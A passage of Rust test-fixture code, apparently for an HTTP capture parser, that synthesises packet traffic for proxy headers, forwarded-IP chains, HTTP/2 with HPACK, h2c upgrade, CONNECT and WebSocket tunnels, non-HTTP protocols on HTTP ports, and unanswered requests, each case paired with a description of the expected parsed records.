                  first carries two keep-alive transactions, the second one."
                .into(),
            tcp: "",
            http: "three `http` records. Connection 1: `GET /via-proxy-v1` and `GET \
                   /again-v1`, both with `proxy` `203.0.113.9:40001` and `real_ip` \
                   `203.0.113.9`. Connection 2: `GET /via-proxy-v2` with `proxy` \
                   `198.51.100.23:50000` and `real_ip` `198.51.100.23`. `client` stays \
                   the load balancer's address."
                .into(),
            frames: merge(vec![eth(&a), eth(&b)]),
            requests: 1,
            warnings: false,
        }
    }

    /// A PROXY protocol v2 header: PROXY command, TCP over IPv4.
    fn realip_v2(src: [u8; 4], dst: [u8; 4], sport: u16, dport: u16) -> Vec<u8> {
        let mut v = b"\r\n\r\n\0\r\nQUIT\n".to_vec();
        v.extend_from_slice(&[0x21, 0x11, 0, 12]);
        v.extend_from_slice(&src);
        v.extend_from_slice(&dst);
        v.extend_from_slice(&sport.to_be_bytes());
        v.extend_from_slice(&dport.to_be_bytes());
        v
    }

    fn xff_real_ip() -> Spec {
        let plain = text_plain();
        let conv = TcpConversation::new("10.1.0.2:42000", SERVER)
            .request(&http_request(
                "GET",
                "/xff",
                &[("X-Forwarded-For", "203.0.113.9, 198.51.100.7, 10.1.0.3")],
                b"",
            ))
            .response(&http_response("200 OK", &plain, b"xff\n"))
            .request(&http_request(
                "GET",
                "/forwarded",
                &[(
                    "Forwarded",
                    "for=192.0.2.60;proto=https, for=\"[2001:db8::17]:4711\"",
                )],
                b"",
            ))
            .response(&http_response("200 OK", &plain, b"forwarded\n"))
            .request(&http_request(
                "GET",
                "/real-ip",
                &[("X-Real-IP", "192.0.2.99")],
                b"",
            ))
            .response(&http_response("200 OK", &plain, b"real ip\n"));
        Spec {
            name: "http-xff-real-ip",
            what: "Real-IP headers from a reverse proxy (10.1.0.2): an `X-Forwarded-For` chain \
                   `203.0.113.9, 198.51.100.7, 10.1.0.3`, a `Forwarded` header with two \
                   elements (`for=192.0.2.60`, then a quoted IPv6 address with port), and \
                   `X-Real-IP`."
                .into(),
            how: "One keep-alive TCP connection 10.1.0.2:42000 -> 10.1.0.9:80, three \
                  transactions."
                .into(),
            tcp: "",
            http: "three `http` records with their headers as sent. `tw-http-parse` trusts no \
                   proxy by default (headers are easy to forge), so `real_ip` is the TCP \
                   client `10.1.0.2` in the golden output. With `--trusted-proxy 10.1.0.0/24` \
                   the chains are walked right to left, skipping trusted hops: `real_ip` \
                   becomes `198.51.100.7` (`10.1.0.3` is trusted, `198.51.100.7` is not), \
                   `2001:db8::17` and `192.0.2.99`; with `--trusted-proxy 0.0.0.0/0` the first \
                   XFF entry `203.0.113.9`. The e2e test `http_cases::xff_real_ip_trusted` \
                   checks these."
                .into(),
            frames: eth(&conv),
            requests: 3,
            warnings: false,
        }
    }

    /// An HPACK string literal: no Huffman coding, 7-bit prefixed length.
    fn hpack_string(out: &mut Vec<u8>, s: &str) {
        hpack_int(out, 0, 7, s.len());
        out.extend_from_slice(s.as_bytes());
    }

    /// An HPACK integer with an `n`-bit prefix, `first` holding the high bits.
    fn hpack_int(out: &mut Vec<u8>, first: u8, n: u32, mut v: usize) {
        let max = (1usize << n) - 1;
        if v < max {
            out.push(first | v as u8);
            return;
        }
        out.push(first | max as u8);
        v -= max;
        while v >= 128 {
            out.push((v % 128) as u8 | 0x80);
            v /= 128;
        }
        out.push(v as u8);
    }

    /// A header block of literal fields without indexing, new names (RFC 7541 §6.2.2).
    fn hpack(headers: &[(&str, &str)]) -> Vec<u8> {
        let mut out = vec![];
        for (k, v) in headers {
            out.push(0x00);
            hpack_string(&mut out, k);
            hpack_string(&mut out, v);
        }
        out
    }

    const H2_DATA: u8 = 0;
    const H2_HEADERS: u8 = 1;
    const H2_SETTINGS: u8 = 4;
    const END_STREAM: u8 = 0x1;
    const END_HEADERS: u8 = 0x4;
    const H2_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

    fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
        let len = payload.len() as u32;
        let mut v = len.to_be_bytes()[1..].to_vec();
        v.push(kind);
        v.push(flags);
        v.extend_from_slice(&stream.to_be_bytes());
        v.extend_from_slice(payload);
        v
    }

    /// SETTINGS with MAX_CONCURRENT_STREAMS 100 and INITIAL_WINDOW_SIZE 65535.
    fn h2_settings() -> Vec<u8> {
        h2_frame(
            H2_SETTINGS,
            0,
            0,
            &[0, 3, 0, 0, 0, 100, 0, 4, 0, 0, 0xff, 0xff],
        )
    }

    fn h2_settings_ack() -> Vec<u8> {
        h2_frame(H2_SETTINGS, 1, 0, &[])
    }

    fn h2_request(stream: u32, method: &str, path: &str, body: &[u8]) -> Vec<u8> {
        let mut headers = vec![
            (":method", method),
            (":scheme", "http"),
            (":authority", "app.example"),
            (":path", path),
            ("user-agent", "h2-synth/1.0"),
        ];
        let len = body.len().to_string();
        if !body.is_empty() {
            headers.push(("content-length", &len));
        }
        let end = if body.is_empty() { END_STREAM } else { 0 };
        let mut v = h2_frame(H2_HEADERS, END_HEADERS | end, stream, &hpack(&headers));
        if !body.is_empty() {
            v.extend_from_slice(&h2_frame(H2_DATA, END_STREAM, stream, body));
        }
        v
    }

    fn h2_response(stream: u32, status: &str, body: &[u8]) -> Vec<u8> {
        let len = body.len().to_string();
        let headers = [
            (":status", status),
            ("content-type", "text/plain"),
            ("content-length", len.as_str()),
        ];
        let mut v = h2_frame(H2_HEADERS, END_HEADERS, stream, &hpack(&headers));
        v.extend_from_slice(&h2_frame(H2_DATA, END_STREAM, stream, body));
        v
    }

    fn h2c_prior_knowledge() -> Spec {
        let conv = TcpConversation::new(CLIENT, SERVER)
            .request(&cat(&[
                H2_PREFACE,
                &h2_settings(),
                &h2_request(1, "GET", "/h2/index", b""),
                &h2_request(3, "POST", "/h2/submit", b"name=h2c"),
            ]))
            .response(&cat(&[
                &h2_settings(),
                &h2_settings_ack(),
                &h2_response(3, "201", b"submitted\n"),
                &h2_response(1, "200", b"index page\n"),
            ]))
            .request(&h2_settings_ack());
        Spec {
            name: "http-h2c-prior-knowledge",
            what: "HTTP/2 in clear text with prior knowledge (no upgrade): the client sends \
                   the connection preface, SETTINGS and two requests on streams 1 and 3 at \
                   once; the server answers stream 3 before stream 1. Header blocks are HPACK \
                   literals without indexing (no Huffman)."
                .into(),
            how: "One TCP connection 10.1.0.7:51234 -> 10.1.0.9:80, frames built by the \
                  generator's small HTTP/2 and HPACK encoder."
                .into(),
            tcp: "",
            http: "two `http` records with `version` `HTTP/2`, emitted as their streams \
                   end: stream 3 `POST /h2/submit` (body `name=h2c`) -> 201 `submitted\\n` \
                   (`seq` 1) first, then stream 1 `GET /h2/index` -> 200 `index page\\n` \
                   (`seq` 0); pseudo-headers become method, uri and status. The summary \
                   counts one HTTP/2 connection."
                .into(),
            frames: eth(&conv),
            requests: 0,
            warnings: false,
        }
    }

    fn h2c_upgrade() -> Spec {
        let upgrade = raw(
            "GET /h2/start HTTP/1.1",
            &[
                ("Host", "app.example"),
                ("Connection", "Upgrade, HTTP2-Settings"),
                ("Upgrade", "h2c"),
                ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"),
            ],
            b"",
        );
        let switching = raw(
            "HTTP/1.1 101 Switching Protocols",
            &[("Connection", "Upgrade"), ("Upgrade", "h2c")],
            b"",
        );
        let conv = TcpConversation::new(CLIENT, SERVER)
            .request(&upgrade)
            .response(&cat(&[
                &switching,
                &h2_settings(),
                &h2_response(1, "200", b"upgraded\n"),
            ]))
            .request(&cat(&[
                H2_PREFACE,
                &h2_settings(),
                &h2_settings_ack(),
                &h2_request(3, "GET", "/h2/next", b""),
            ]))
            .response(&cat(&[
                &h2_settings_ack(),
                &h2_response(3, "200", b"next\n"),
            ]));
        Spec {
            name: "http-h2c-upgrade",
            what: "HTTP/2 by upgrade (RFC 7540 §3.2): an HTTP/1.1 `GET` with `Upgrade: h2c` \
                   and `HTTP2-Settings`, answered by `101 Switching Protocols`, after which \
                   the server sends SETTINGS and the response to the upgrade request as \
                   stream 1; the client sends its preface and a second request on stream 3."
                .into(),
            how: "One TCP connection 10.1.0.7:51234 -> 10.1.0.9:80.".into(),
            tcp: "",
            http: "two `http` records: the upgrade request `GET /h2/start` (HTTP/1.1) paired \
                   with the HTTP/2 response on stream 1 (200 `upgraded\\n`, `interim` \
                   `[101]`), then stream 3 `GET /h2/next` -> 200 `next\\n`."
                .into(),
            frames: eth(&conv),
            requests: 1,
            warnings: false,
        }
    }

    fn connect_websocket() -> Spec {
        let tls_like: Vec<u8> = (0..200u32).map(|i| (i * 37 % 251) as u8).collect();
        let a = TcpConversation::new(CLIENT, "10.1.0.9:3128")
            .request(b"CONNECT api.example:443 HTTP/1.1\r\nHost: api.example:443\r\n\r\n")
            .response(b"HTTP/1.1 200 Connection Established\r\n\r\n")
            .request(&cat(&[&[0x16, 0x03, 0x01, 0x00, 0xc4], &tls_like[..196]]))
            .response(&cat(&[&[0x16, 0x03, 0x03, 0x00, 0x40], &tls_like[..64]]));
        let ws_req = raw(
            "GET /chat HTTP/1.1",
            &[
                ("Host", "app.example"),
                ("Upgrade", "websocket"),
                ("Connection", "Upgrade"),
                ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
                ("Sec-WebSocket-Version", "13"),
            ],
            b"",
        );
        let ws_resp = raw(
            "HTTP/1.1 101 Switching Protocols",
            &[
                ("Upgrade", "websocket"),
                ("Connection", "Upgrade"),
                ("Sec-WebSocket-Accept", "s3pPLMBiTxaQ9kYGzzhZRbK+xOo="),
            ],
            b"",
        );
        // A masked text frame "GET /not-http HTTP/1.1" from the client: the
        // parser must not take WebSocket payload for HTTP.
        let payload = b"GET /not-http HTTP/1.1\r\n\r\n";
        let mask = [0x11, 0x22, 0x33, 0x44];
        let mut frame = vec![0x81, 0x80 | payload.len() as u8];
        frame.extend_from_slice(&mask);
        frame.extend(payload.iter().enumerate().map(|(i, b)| b ^ mask[i % 4]));
        let b = TcpConversation::new("10.1.0.7:51240", SERVER)
            .start(at(100))
            .request(&ws_req)
            .response(&ws_resp)
            .request(&frame)
            .response(&cat(&[&[0x81, 5], b"hello"]));
        Spec {
            name: "http-connect-websocket",
            what: "Connections that stop being HTTP after one transaction: a `CONNECT \
                   api.example:443` to a proxy on port 3128 answered `200 Connection \
                   Established`, then TLS-looking bytes both ways; and a WebSocket upgrade \
                   (`101 Switching Protocols`) followed by WebSocket frames."
                .into(),
            how: "Two TCP connections: 10.1.0.7:51234 -> 10.1.0.9:3128 and 10.1.0.7:51240 -> \
                  10.1.0.9:80, 100 ms later."
                .into(),
            tcp: "",
            http: "two `http` records: `CONNECT api.example:443` -> 200 and `GET /chat` -> \
                   101; the tunnelled bytes are not parsed (two tunnels and their bytes \
                   counted in the summary), and no transaction is made of the `GET \
                   /not-http` inside the masked WebSocket frame."
                .into(),
            frames: merge(vec![eth(&a), eth(&b)]),
            requests: 2,
            warnings: false,
        }
    }

    /// A TLS 1.2 record holding a ClientHello with an SNI extension.
    fn client_hello(sni: &str) -> Vec<u8> {
        let name = sni.as_bytes();
        let mut sni_ext = vec![];
        sni_ext.extend_from_slice(&((name.len() + 3) as u16).to_be_bytes());
        sni_ext.push(0);
        sni_ext.extend_from_slice(&(name.len() as u16).to_be_bytes());
        sni_ext.extend_from_slice(name);
        let mut exts = vec![0, 0];
        exts.extend_from_slice(&(sni_ext.len() as u16).to_be_bytes());
        exts.extend_from_slice(&sni_ext);
        let mut body = vec![3, 3];
        body.extend((0..32u8).map(|i| i.wrapping_mul(7)));
        body.push(0); // session id
        body.extend_from_slice(&[0, 4, 0x13, 0x01, 0xc0, 0x2f]);
        body.extend_from_slice(&[1, 0]); // compression: null
        body.extend_from_slice(&(exts.len() as u16).to_be_bytes());
        body.extend_from_slice(&exts);
        let mut hs = vec![1];
        hs.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
        hs.extend_from_slice(&body);
        let mut rec = vec![0x16, 3, 1];
        rec.extend_from_slice(&(hs.len() as u16).to_be_bytes());
        rec.extend_from_slice(&hs);
        rec
    }

    fn non_http() -> Spec {
        let tls443 =
            TcpConversation::new(CLIENT, "10.1.0.9:443").request(&client_hello("app.example"));
        let tls80 = TcpConversation::new("10.1.0.7:51235", SERVER)
            .start(at(100))
            .request(&client_hello("tls-on-80.example"));
        let ssh80 = TcpConversation::new("10.1.0.7:51236", SERVER)
            .start(at(200))
            .response(b"SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13\r\n")
            .request(b"SSH-2.0-OpenSSH_9.6\r\n");
        let http8081 = TcpConversation::new("10.1.0.7:51237", "10.1.0.9:8081")
            .start(at(300))
            .request(&http_request("GET", "/on-8081", &[], b""))
            .response(&http_response("200 OK", &text_plain(), b"any port\n"));
        Spec {
            name: "http-non-http",
            what: "Traffic that is not HTTP on HTTP's ports, and HTTP on another port: a TLS \
                   ClientHello to port 443, a TLS ClientHello to port 80, an SSH exchange on \
                   port 80 (server banner first), and one plain HTTP transaction to port 8081."
                .into(),
            how: "Four TCP connections from 10.1.0.7 (ports 51234-51237) to 10.1.0.9, 100 ms \
                  apart."
                .into(),
            tcp: "",
            http: "one `http` record (`GET /on-8081` -> 200; HTTP is recognised by its \
                   content, not its port); the summary counts three non-HTTP connections."
                .into(),
            frames: merge(vec![eth(&tls443), eth(&tls80), eth(&ssh80), eth(&http8081)]),
            requests: 1,
            warnings: false,
        }
    }

    fn unanswered() -> Spec {
        let plain = text_plain();
        let a = TcpConversation::new(CLIENT, SERVER)
            .request(&http_request("GET", "/answered", &[], b""))
            .response(&http_response("200 OK", &plain, b"answered\n"))
            .request(&http_request("GET", "/pending-1", &[], b""))
            .request(&http_request("POST", "/pending-2", &[], b"late=1"))
            .no_close();
        let b = TcpConversation::new("10.1.0.7:51240", SERVER)
            .start(at(100))
            .response(&http_response("200 OK", &plain, b"who asked?\n"));
        Spec {
            name: "http-unanswered",
            what: "Transactions left incomplete: a keep-alive connection whose last two \
                   requests get no response before the capture ends (no FIN), and a \
                   connection whose server sends a response no request asked for."
                .into(),
            how: "Connection 10.1.0.7:51234 -> 10.1.0.9:80 (one answered request, then two \
                  unanswered, left open) and 10.1.0.7:51240 -> 10.1.0.9:80 100 ms later \
                  (the server speaks first)."
                .into(),
            tcp: "the first connection has no FIN and is closed at end of input (reason `eof`), the second closes by FIN.",
            http: "four `http` records, in the order they are complete: `GET /answered` \
                   -> 200 (connection 1, `seq` 0); connection 2's record with only a \
                   `response` (200 `who asked?\\n`) and anomaly `response_without_request`, \
                   emitted at its FIN; then, at end of input, connection 1's `GET /pending-1` \
                   and `POST /pending-2` (body `late=1`) with no `response`."
                .into(),
            frames: merge(vec![eth(&a), eth(&b)]),
            requests: 3,
            warnings: false,
        }
    }
}
